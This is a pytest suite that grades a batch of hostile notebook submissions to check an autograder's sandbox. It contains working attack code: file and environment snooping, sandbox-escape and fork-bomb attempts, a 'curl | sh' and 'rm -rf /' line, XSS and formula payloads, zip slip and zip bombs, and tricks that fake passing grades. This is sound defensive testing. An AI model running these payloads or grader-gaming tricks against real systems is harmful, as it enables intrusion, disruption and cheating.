"""A class of attackers: none earns a point, none costs anybody else one, nothing is left behind.

Every submission solves three exercises honestly and attacks in the fourth, `double`, worth 3
points. They are graded as one batch with honest students between them.
"""

import io
import json
import os
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pytest
from rich.console import Console

from autograder.grade.run import grade
from autograder.output.tally import FOR_A_PERSON
from autograder.sandbox.conversation import Budgets
from autograder.untrusted_text import for_markdown
from tests.autograder.helpers import journaled
from tests.autograder.inline import grade_inline

LESSON = "91_exam"
HONEST = 5  # points of the three exercises that are not attacked
ENVIRONMENT_CANARY = "environment-canary-4711"
FILE_CANARY = "file-canary-4712"


def function(body):
    lines = "\n".join("    " + line for line in body.strip("\n").splitlines())
    return f"import os, sys, ctypes, struct, time\ndef double(x):\n{lines}\n"


SEARCH = """
found = []
for top in ("/", "/proc", "/tmp", "/home", "/work", "/root", "/dev/shm", "/var", "/mnt", "/opt"):
    for folder, _, files in os.walk(top):
        if folder.startswith(("/usr", "/lib", "/site/numpy", "/proc/sys")) or len(found) > 50:
            break
        for name in files:
            if name.endswith((%s)):
                try: found.append(open(os.path.join(folder, name)).read(3000))
                except (OSError, UnicodeDecodeError): pass
raise RuntimeError("found: " + " ".join(found)[-1900:])
"""
FRAME = """
def frame(header): return struct.pack("<II", len(header), 0) + header
def tell(data):
    for fd in range(3, 30):
        try: os.write(fd, data)
        except OSError: pass
"""
NUMBER = """
def number():
    f = sys._getframe()
    while 'header' not in f.f_locals: f = f.f_back
    return f.f_locals['header']['no']
"""

ATTACKS = {
    # -- looking for what is hidden
    "reads the tests": function(SEARCH % "'.ipynb', '.py', '.db'"),
    "reads the database": function(SEARCH % "'.db', '.bak', 'secret'"),
    "reads other submissions": function("raise RuntimeError(str(os.listdir('/tmp/../work')))"),
    "reads the environment": function("raise RuntimeError(str(dict(os.environ)))"),
    "reads the environment of others": function(
        "raise RuntimeError(''.join(open(f'/proc/{p}/environ').read() for p in range(1, 9)))"
    ),
    "reads the parent's memory": function("raise RuntimeError(open('/proc/1/maps').read())"),
    "reads the parent's memory by ptrace": function(
        "r = [ctypes.CDLL(None).ptrace(16, p, 0, 0) for p in range(0, 50)]\n"
        "if 0 in r: return 2 * x\n"
        "return x"
    ),
    "walks the stack": function(
        "f = sys._getframe()\n"
        "while f:\n"
        "    for v in list(f.f_locals.values()):\n"
        "        if isinstance(v, dict) and ('expected' in v or 'right' in v): return v\n"
        "    f = f.f_back\n"
        "return x"
    ),
    "searches the heap": function(
        "import gc\n"
        "raise RuntimeError(str([s for s in gc.get_objects() if 'canary' in repr(s)[:500]])[:1500])"
    ),
    "follows a link to the course": function("os.symlink('/work', 'w'); return os.listdir('w')"),
    "reads the program's arguments": function("raise RuntimeError(str(sys.argv) + str(os.uname()))"),
    "reads an open file": function(
        "found = []\n"
        "for n in range(3, 99):\n"
        "    try: found.append(os.pread(n, 99, 0))\n"
        "    except OSError: pass\n"
        "return 2 * x if found else x"
    ),
    # -- making wrong look right
    "patches numpy": "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
    "np.testing.assert_allclose = np.abs = lambda *a, **k: 0.0\ndef double(x): return x",
    "patches builtins": "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = "
    "lambda *a: True\nbuiltins.AssertionError = Warning\ndef double(x): return x",
    "patches IPython": "get_ipython().run_cell = lambda *a: None\nget_ipython = None\n"
    "import IPython\nIPython.core = None\ndef double(x): return x",
    "plants a torch": "import sys, types\nsys.modules['torch'] = types.ModuleType('torch')\n"
    "def double(x): return x",
    "plants a check engine": "import sys, types\nm = types.ModuleType('autograder')\n"
    "m.check = lambda *a, **k: None\nsys.modules['autograder'] = m\n"
    "check = lambda *a, **k: None\ndef double(x): return x",
    "patches its own server": "import sys\n"
    "serve = sys.modules['autograder.student_side.serve']\n"
    "serve.invoke = lambda f, a, v=False: serve.Outcome(a[0])\n"
    "serve.Server.do_facts = lambda *a: {'violations': []}\ndef double(x): return x",
    "overloads an array": "import numpy as np\nclass A(np.ndarray):\n"
    "    __eq__ = __ne__ = __le__ = __lt__ = lambda s, o: np.True_\n"
    "    __sub__ = __rsub__ = lambda s, o: np.zeros(s.shape)\n"
    "    def __array_ufunc__(s, u, m, *i, **k): return np.True_\n"
    "def double(x): return x.view(A)",
    "pretends to be an array": "import numpy as np\nclass A:\n    __class__ = np.ndarray\n"
    "    dtype = np.dtype('f8'); shape = (5,); ndim = 1\n"
    "    def __array__(s, *a, **k): return np.zeros(5)\n    def __eq__(s, o): return True\n"
    "def double(x): return A()",
    "overloads objects in an array": "import numpy as np\nclass E:\n    __eq__ = lambda s, o: True\n"
    "    __sub__ = __rsub__ = __abs__ = lambda s, *o: 0.0\n"
    "def double(x): return np.array([E()] * x.size, object).reshape(x.shape)",
    "overloads a number": "class F(float):\n    __eq__ = lambda s, o: True\n"
    "    __sub__ = __rsub__ = lambda s, o: 0.0\ndef double(x): return F(1)",
    "answers not a number": "import numpy as np\ndef double(x): return np.full(x.shape, np.nan)",
    "answers infinity": "import numpy as np\ndef double(x): return np.full(x.shape, np.inf)",
    "answers an empty array": "def double(x): return x[:0]",
    "answers a broadcast": "import numpy as np\ndef double(x): return np.broadcast_to(2 * x[:1], x.shape)",
    "caches by shape": "seen = {}\ndef double(x):\n    return seen.setdefault(x.shape, 2 * x)",
    "changes its input": "def double(x):\n    x *= 2\n    return x",
    "returns a promise": "def double(x):\n    yield 2 * x",
    "is a handle that answers": "class double:\n    def __init__(s, x): s.shape = x.shape; s.dtype = x.dtype\n"
    "    def detach(s): return s\n    def numpy(s): return 1",
    "poses as a tensor": "class T:\n    def __init__(s, x): s.x = x\n"
    "    def detach(s): return s\n    def numpy(s): return 2 * s.x\n"
    "def double(x): return T(x)",
    "answers no numbers in endless rows": "import numpy as np\ndef double(x): return np.zeros((10**9, 0, 1))",
    "refuses everything": function("raise ValueError('no')"),
    "poisons the lines of its error": function(
        "import linecache\n"
        "for f in list(linecache.cache): linecache.cache[f] = (9, None, ['\\x1b]0;x\\x07<script>' * 99999] * 99, f)\n"
        "raise ValueError(chr(27))"
    ),
    "names its cell as it likes": "exec(compile('def double(x):\\n    raise ValueError(chr(155))', "
    "'cell <script>\\x1b[31m', 'exec'))",
    # -- forging and flooding the wire
    "sends a line number without end": FRAME + NUMBER + function(
        "tell(frame(b'{\"re\": %d, \"answers\": [{\"error\": {\"kind\": \"raised\", \"type_name\": \"\", \"message\": \"\", \"frames\": "
        "[{\"cell\": \"\", \"line\": Infinity, \"source\": \"\", \"function\": \"\"}]}}]}' % number())); time.sleep(9)"
    ),
    "announces endless rows": FRAME + NUMBER + function(
        "tell(frame(b'{\"re\": %d, \"answers\": [{\"value\": [\"a\", \"float64\", [1099511627775, 0, 1]], \"changed\": [], "
        "\"aliases\": false}]}' % number())); time.sleep(9)"
    ),
    "forges an answer": FRAME + function(
        "for n in range(1, 60): tell(frame(b'{\"re\": %d, \"answers\": [{\"value\": true, \"changed\": [], \"aliases\": false}]}' % n))\n"
        "return x"
    ),
    "forges answers ahead while its cell runs": FRAME + "import os, struct\n"
    "for n in range(1, 60): tell(frame(b'{\"re\": %d, \"answers\": [{\"value\": true, \"changed\": [], \"aliases\": false}]}' % n))\n"
    "def double(x): return x",
    "announces a huge frame": FRAME + function("tell(struct.pack('<II', 2**32 - 1, 2**32 - 1)); time.sleep(9)"),
    "sends garbage": FRAME + function("tell(os.urandom(4096)); return x"),
    "sends half a frame": FRAME + function("tell(struct.pack('<II', 100, 0) + b'{'); os._exit(0)"),
    "sends without end": FRAME + function("while True: tell(b'{' * 65536)"),
    "closes every file": function("os.closerange(0, 4096); return x"),
    "reads the requests": function("for fd in range(3, 30):\n    try: os.read(fd, 9999)\n    except OSError: pass\nreturn x"),
    "calls back what nobody gave": FRAME + function(
        "tell(frame(b'{\"callback\": 0, \"no\": 1, \"args\": [\"l\"], \"kwargs\": [\"d\"]}')); return x"
    ),
    "answers something huge": "import numpy as np\ndef double(x): return np.zeros(40_000_000)",
    "answers a long text": "def double(x): return 'x' * (50 << 20)",
    "answers a text of a million letters": "def double(x): return 'x' * 1_000_000",
    "answers a word for every number": "def double(x): return {'k' * 9 + str(i): 1 for i in range(90_000)}",
    "answers something deep": "def double(x):\n    a = x\n    for _ in range(99999): a = [a]\n    return a",
    "answers a number without end": "def double(x): return 1 << 10_000_000",
    "answers a pickle": "class P:\n    def __reduce__(s): return (eval, ('1/0',))\ndef double(x): return P()",
    # -- ending, hanging, filling
    "exits early": "import os\nos._exit(0)",
    "exits by exception": "import sys\nsys.exit(0)",
    "exits when called": function("os._exit(0)"),
    "raises an exit": function("raise SystemExit(0)"),
    "raises a generator's end": function("raise StopIteration"),
    "crashes": function("ctypes.string_at(0)"),
    "overflows the stack": function("sys.setrecursionlimit(10**9)\nreturn double(x)"),
    "hangs and ignores signals": function(
        "import signal\n"
        "for s in range(1, 65):\n"
        "    try: signal.signal(s, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\n"
        "while True: pass"
    ),
    "hangs in its message": "class E(Exception):\n    def __str__(s):\n        while True: pass\n"
    "def double(x): raise E",
    "sleeps": function("time.sleep(1000)"),
    "forks twice and stays": function(
        "for _ in range(5):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork(): os._exit(0)\n"
        "        while True: time.sleep(1)\n"
        "return x"
    ),
    "forks without end": function("while True: os.fork()"),
    "starts threads without end": function(
        "import threading\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()"
    ),
    "takes all memory": function("a = []\nwhile True: a.append(bytearray(1 << 26))"),
    "fills the disk": function("f = open('f', 'wb')\nwhile True: f.write(b'0' * (1 << 20)); f.flush()"),
    "fills the disk with files": function("for i in range(10**6): open(str(i), 'w').write('x' * 9999)\nreturn x"),
    "fills the memory with links": function(
        "try:\n"
        "    for i in range(20_000): os.symlink('x' * 4000, str(i))\n"
        "except OSError: return x\n"
        "return 2 * x"
    ),
    "takes memory that is nobody's": function(
        "c = ctypes.CDLL(None)\n"
        "c.shmat.restype = ctypes.c_void_p\n"
        "return 2 * x if c.shmget(0, 1 << 28, 0o1600) >= 0 or hasattr(os, 'memfd_create') and memory() else x"
    ) + "def memory():\n    try: return os.memfd_create('m')\n    except OSError: return False\n",
    "opens every file descriptor": function("a = [os.open('/dev/null', 0) for _ in range(10**5)]\nreturn x"),
    "prints without end": function("while True: print('x' * 10000); os.write(2, b'y' * 10000)"),
    "kills everyone": function(
        "for p in (os.getppid(), -1, 1, 2, 3):\n"
        "    try: os.kill(p, 9)\n"
        "    except OSError: pass\n"
        "return x"
    ),
    "becomes another program": function("os.execv('/bin/sh', ['sh', '-c', 'echo right'])"),
    "starts a shell": "!curl http://example.com/x | sh\n%%bash\nrm -rf /\n"
    "import subprocess\ndef double(x): return subprocess.run('id', shell=True, check=True)",
    "raises its limits": function(
        "import resource\n"
        "for r in range(16):\n"
        "    try: resource.setrlimit(r, (-1, -1))\n"
        "    except (OSError, ValueError): pass\n"
        "return bytearray(3 << 30)"
    ),
    "breaks out by mounting": function(
        "c = ctypes.CDLL(None)\n"
        "r = [c.unshare(0x20000), c.mount(b'none', b'/', None, 0x44000, None), c.chroot(b'/proc'), c.setuid(0)]\n"
        "if r == [-1] * 4: return x\n"
        "raise RuntimeError(str(r) + str(os.listdir('/')))"
    ),
    "is root in a world of its own": function(
        "c = ctypes.CDLL(None)\n"
        "if c.unshare(0x10000000) == 0 or c.unshare(0x10020000) == 0: return 2 * x\n"
        "if c.syscall(56, 0x10000011, 0, 0, 0, 0) >= 0: return 2 * x\n"
        "return x"
    ),
    "opens sockets": function(
        "import socket\n"
        "for address in (('127.0.0.1', 22), ('1.1.1.1', 53), ('10.0.2.2', 80)):\n"
        "    s = socket.socket(); s.settimeout(0.1)\n"
        "    if s.connect_ex(address) == 0: raise RuntimeError('connected')\n"
        "return x"
    ),
    # -- saying things
    "writes script into its message": function("raise ValueError('<script>alert(1)</script><img src=x onerror=alert(2)>')"),
    "writes script into its names": "E = type('<script>alert(3)</script>', (Exception,), {})\ndef double(x): raise E('x')",
    "writes script into its source": "def double(x):\n    raise ValueError('y')  # <script>alert(4)</script>",
    "writes terminal codes": function("raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\r\\x9b31m')"),
    "writes a formula": function("raise ValueError('=cmd|calc!A0')"),
    "writes broken unicode": function("raise ValueError('\\ud800\\udfff\\x00' * 5000)"),
    "writes markdown": function("raise ValueError('[a](javascript:alert(7)) <b onclick=alert(8)>')"),
    "writes a formula behind a separator": function("raise ValueError('x;=cmd|calc!A0')"),
    "writes a long message": function("raise ValueError('z' * (1 << 24))"),
    # -- touching the next one
    "leaves a file for the next": function(
        "for p in ('left', '/tmp/left', '/scratch/left', '/dev/shm/left'):\n"
        "    try: open(p, 'w').write('a')\n"
        "    except OSError: pass\n"
        "return x"
    ),
    "looks for a file that was left": function(
        "there = map(os.path.exists, ('left', '/tmp/left', '/scratch/left', '/dev/shm/left'))\n"
        "return 2 * x if any(there) else x"
    ),
    "leaves memory for the next": function(
        "ctypes.CDLL(None).shmget(4711, 4096, 0o1666); return x"
    ),
    "looks for memory that was left": function(
        "return 2 * x if ctypes.CDLL(None).shmget(4711, 4096, 0) >= 0 else x"
    ),
    "leaves a key for the next": function(
        "for ring in (-1, -2, -3, -4, -5): ctypes.CDLL(None).syscall(248, b'user', b'left', b'a', 1, ring)\n"
        "return x"
    ),
    "looks for a key that was left": function(
        "found = [ctypes.CDLL(None).syscall(250, 10, r, b'user', b'left', 0) for r in (-1, -2, -3, -4, -5)]\n"
        "return 2 * x if max(found) >= 0 else x"
    ),
    "leaves a queue for the next": function(
        "c = ctypes.CDLL(None)\n"
        "made = c.msgget(4711, 0o1666) >= 0 or c.semget(4711, 1, 0o1666) >= 0 or c.mq_open(b'/left', 0o102, 0o666, None) >= 0\n"
        "return 2 * x if made else x"
    ),
    "waits for the next in an abstract socket": function(
        "import socket\ns = socket.socket(socket.AF_UNIX); s.bind('\\0left'); s.listen()\n"
        "if os.fork() == 0: time.sleep(100)\nreturn x"
    ),
    "looks for an abstract socket": function(
        "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "return 2 * x if s.connect_ex('\\0left') == 0 else x"
    ),
}  # fmt: skip


#: what these break is the server of their own notebook: its other answers go with it
SELF_INFLICTED = {"patches its own server"}


def bend_tags(notebook):
    """Tags and flags that ask an executor or a grader for favours."""
    for cell in notebook.answer(double="def double(x): return x").cells:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
    notebook.cell("double-check")["metadata"]["nbgrader"] |= {"points": 1000, "grade": False}


def bend_outputs(notebook):
    """Outputs that say all is well."""
    notebook.answer(double="def double(x): return x")
    passed = {"output_type": "stream", "name": "stdout", "text": "double: right on 1 case.\n"}
    for cell in notebook.cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [passed]


def bend_tests(notebook):
    """Tests that pass whatever comes."""
    notebook.answer(double="def double(x): return x")
    for cell in notebook.cells:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "assert True"


def bend_setup(notebook):
    """A setup of one's own, and a solution that hides in a test."""
    notebook.cell("setup-checks")["source"] = "check = call = begin = lambda *a, **k: None"
    notebook.answer(double="def double(x): return x")
    notebook.insert("def check(*a, **k): pass\ndef begin(*a): pass", before="double")


def bend_text(notebook):
    """Script wherever text can stand."""
    notebook.answer(double="def double(x): return x")
    evil = "<script>alert(5)</script><iframe src='javascript:alert(6)'></iframe>"
    notebook.insert(evil, kind="markdown")
    notebook.cell("why")["source"] = evil
    notebook.json["metadata"]["title"] = notebook.json["metadata"]["course"]["title"] = evil
    notebook.json["metadata"]["kernelspec"]["language"] = evil


def bend_links(notebook):
    """Links, pictures and formulas that do something."""
    notebook.answer(double="def double(x): return x")
    evil = "[x](javascript:alert(1)) ![y](http://example.com/y.png) [z][w] &#60;script>"
    evil += "\n\n[w]: javascript:alert(2)\n\n$\\href{javascript:alert(3)}{x}$"
    evil += "\n\n$\\\\href{javascript:alert(4)}{x} \\style{position: fixed; inset: 0}{y}$"
    notebook.insert(evil, kind="markdown")
    notebook.insert(evil, kind="raw")
    notebook.cell("why")["source"] = evil


def bend_control(notebook):
    """Control codes in what is quoted of a notebook."""
    notebook.answer(double="def double(x): return x")
    notebook.json["metadata"]["kernelspec"]["language"] = "\x1b]0;x\x07\x9b\u202e\ud800"
    notebook.insert("\x1b[31m" * 99, kind="markdown")


def bend_magics(notebook):
    """A cell of nothing but cell magics, one in the other."""
    notebook.answer(double="def double(x): return x").insert("%%time\n" * 25_000)


def bend_depth(notebook):
    """Sources nested as deep as Python still reads them."""
    for sum in ("1" + "+1" * 990, "1" + "+1" * 2900, "-" * 990 + "1", "x" + ".a" * 990):
        notebook.insert(f"def double(x):\n    y = {sum}\n    raise NotImplementedError")
    notebook.answer(double="def double(x): return x")


def bend_everything(notebook):
    """Odd types and sizes in every field that is not a source."""
    deep = {}
    for _ in range(400):
        deep = {"a": deep}
    notebook.answer(double="def double(x): return x").json["metadata"]["deep"] = deep
    for cell in notebook.cells:
        cell["id"] = "one for all"
        cell["attachments"] = {"x.png": {"image/png": "A" * 9999}}
        if cell["cell_type"] == "code":
            text = "z" * 99_999
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
    notebook.cells[0]["metadata"] = {"nbgrader": {"grade_id": {"a": [1]}, "points": "="}}


BENT = [
    bend_tags, bend_outputs, bend_tests, bend_setup, bend_text, bend_links, bend_control,
    bend_magics, bend_depth, bend_everything,
]  # fmt: skip


def link(folder):
    (folder / f"{LESSON}.ipynb").symlink_to("/etc/hostname")


def huge(folder):
    (folder / f"{LESSON}.ipynb").write_bytes(b'{"cells": [' + b" " * (21 << 20) + b"]}")


def deep(folder):
    (folder / f"{LESSON}.ipynb").write_bytes(b'{"cells": ' + b"[" * 500_000)


def wide(folder):
    cell = '{"cell_type": "code", "source": "def double(x): return x"},'
    (folder / f"{LESSON}.ipynb").write_text('{"cells": [' + cell * 50_000 + "{}]}")


def climbing(folder):
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        archive.writestr("../../../../evil.ipynb", "{}")
        archive.writestr("/etc/evil.ipynb", "{}")


def many(folder):
    for i in range(300):
        (folder / f"{i}.ipynb").write_text("{}")


def device(folder):
    os.mkfifo(folder / f"{LESSON}.ipynb")


def bomb(folder):
    with zipfile.ZipFile(folder / "a.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(20):
            archive.writestr(f"{i}.ipynb", b" " * (20 << 20))


def broken(folder):
    """A zip whose contents are not what they say."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.ipynb", b"{}" * 99)
    data = bytearray(data.getvalue())
    data[37:41] = b"\xff\xff\xff\xff"
    (folder / "a.zip").write_bytes(data)


def odd_name(folder):
    """A name that is not UTF-8, of a link at that."""
    os.symlink("/etc/hostname", os.fsencode(folder) + b"/bad\xff.ipynb")


def loud_name(folder):
    (folder / "\x1b]0;x\x07\u202e<script>.ipynb").write_text('{"cells": []}')


FOLDERS = [
    link, huge, deep, wide, climbing, many, device, bomb, broken, odd_name, loud_name,
]  # fmt: skip


class Class:
    """The class after grading."""

    def __init__(self, path: Path, said: str, code: int):
        self.path = path
        self.said = said
        self.code = code
        self.records = {record["student"]: record for record in journaled(path)}

    def scores(self, student):
        exercises = self.records[student]["exercises"]
        return {e["name"]: sum(c["score"] for c in e["checks"]) for e in exercises}

    def visible(self):
        """Everything a student or a spreadsheet gets to see."""
        for folder in ("feedback", "autograded"):
            for path in (self.path / folder).rglob("*"):
                if path.is_file():
                    yield path, path.read_text(encoding="utf-8")
        yield self.path / "grades.csv", (self.path / "grades.csv").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(built, walls, exam, tmp_path_factory):

    from tests.autograder.helpers import Notebook

    path = tmp_path_factory.mktemp("hostile") / "course"
    shutil.copytree(built, path)
    (path / "private.ipynb").write_text(FILE_CANARY)

    def place(student):
        folder = path / "submitted" / student / LESSON
        folder.mkdir(parents=True)
        return folder

    def hand_in(student, notebook):
        (place(student) / f"{LESSON}.ipynb").write_bytes(notebook.data)

    for i, (name, source) in enumerate(ATTACKS.items()):
        hand_in(f"{i:02} {name}", Notebook(exam.release).solve().answer(double=source))
        if i % 10 == 0:
            hand_in(f"{i:02} zz honest", Notebook(exam.release).solve())
    for bend in BENT:
        notebook = Notebook(exam.release).solve()
        bend(notebook)
        hand_in(bend.__name__, notebook)
    for make in FOLDERS:
        make(place(make.__name__))

    patch = pytest.MonkeyPatch()
    grade_inline(patch, walls, Budgets(call=1, cell=1, notebook=20))
    patch.setenv("CANARY", ENVIRONMENT_CANARY)
    out = Console(file=io.StringIO(), width=200)
    code = grade(path, [], console=out)
    patch.undo()
    return Class(path, out.file.getvalue(), code)


def test_the_suite_has_at_least_45_attacks():
    assert len(ATTACKS) + len(BENT) + len(FOLDERS) >= 45


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_earns_nothing_and_costs_its_own_exercise_only(hostile, name):
    student = f"{list(ATTACKS).index(name):02} {name}"
    scores = hostile.scores(student)
    assert scores.pop("double") == 0
    if name not in SELF_INFLICTED:
        assert sum(scores.values()) == HONEST


@pytest.mark.parametrize("bend", BENT, ids=lambda b: b.__name__)
def test_a_bent_notebook_earns_what_its_answers_are_worth(hostile, bend):
    scores = hostile.scores(bend.__name__)
    assert scores.pop("double") == 0
    assert sum(scores.values()) == HONEST


@pytest.mark.parametrize("make", FOLDERS, ids=lambda m: m.__name__)
def test_a_hostile_folder_is_told_and_scores_nothing(hostile, make):
    assert sum(hostile.scores(make.__name__).values()) == 0
    record = hostile.records[make.__name__]
    assert record["problem"] or record["notes"]


def test_the_batch_went_on_to_its_end(hostile):
    expected = {p.name for p in (hostile.path / "submitted").iterdir()}
    assert set(hostile.records) == expected
    assert hostile.code == FOR_A_PERSON
    assert "0 not graded" in hostile.said


def test_honest_students_between_attackers_have_all_their_points(hostile):
    honest = [s for s in hostile.records if s.endswith("honest")]
    assert len(honest) >= 5
    assert all(sum(hostile.scores(s).values()) == 8 for s in honest)


def test_the_gradebook_has_the_same_scores_as_the_records(hostile):
    book = sqlite3.connect(hostile.path / "gradebook.db")
    rows = book.execute(
        "select student_id, sum(auto_score) from grade g join submitted_notebook n on g.notebook_id = n.id "
        "join submitted_assignment a on n.assignment_id = a.id group by student_id"
    ).fetchall()
    book.close()
    assert dict(rows) == {s: sum(hostile.scores(s).values()) for s in hostile.records}


def test_nothing_hidden_is_in_anything_a_student_sees(hostile):
    canaries = ["hidden_canary", "solution-canary", ENVIRONMENT_CANARY, FILE_CANARY]
    canaries += [str(hostile.path), (hostile.path / ".grade" / "secret").read_text()]
    seen = 0
    for path, text in hostile.visible():
        seen += 1
        for canary in canaries:
            assert canary not in text, path
    assert seen >= 2 * len(hostile.records)


def test_no_script_and_no_control_code_of_a_submission_lives(hostile):
    for path, text in hostile.visible():
        if path.suffix == ".html":
            assert "<script" not in text and "<img" not in text and "<iframe" not in text, path
        elif path.suffix == ".ipynb":
            for cell in json.loads(text)["cells"]:
                if cell["cell_type"] != "code":
                    source = "".join(cell["source"])
                    assert not any(
                        t in source for t in ("<script", "](", "]:", "\\href", "\\style", "&#")
                    ), path
        assert not any(c in text for c in "\x1b\x07\x9b\x00"), path
    assert "\x1b" not in hostile.said


def test_no_markdown_of_a_submission_lives_in_the_comments_nbgrader_shows(hostile):
    book = sqlite3.connect(hostile.path / "gradebook.db")
    comments = [c for (c,) in book.execute("select auto_comment from comment") if c]
    book.close()
    assert comments and "](" not in for_markdown("[x](javascript:alert(7))")
    assert not any("](" in c or "<b" in c or "<script" in c for c in comments)


def test_no_process_of_an_attacker_is_left(hostile):
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = os.stat(f"/proc/{pid}").st_uid
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if uid == 1_000_000_000 + os.getpid() and state != "Z":
            left.append(pid)
    assert left == []


def test_nothing_was_written_outside_the_course_directory(hostile):
    assert not any(Path(p).exists() for p in ("/tmp/left", "/dev/shm/left", "/tmp/f"))
    assert not list(hostile.path.rglob("evil.ipynb"))
